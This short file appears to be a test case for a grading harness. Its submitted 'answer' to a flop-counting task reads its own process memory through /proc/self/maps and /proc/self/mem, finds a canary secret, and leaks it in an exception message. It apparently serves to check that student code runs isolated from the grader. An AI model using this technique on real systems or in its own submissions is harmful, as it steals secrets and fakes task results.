# tries: Reads the whole memory of its own process and shows the secret that it finds there.
# defence: separate process for student code
# gains: the secret

# %% answer: 03_count_flops
import re


def count_flops(m, k, n):
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            place, rights = line.split()[:2]
            if rights.startswith("rw"):
                start, end = (int(word, 16) for word in place.split("-"))
                if end - start < 1 << 28:
                    memory.seek(start)
                    try:
                        text = memory.read(end - start)
                    except OSError:
                        continue
                    if found := re.search(b"canary-" + b"secret-[0-9a-f]{32}", text):
                        raise ValueError(found[0].decode())
    return 0
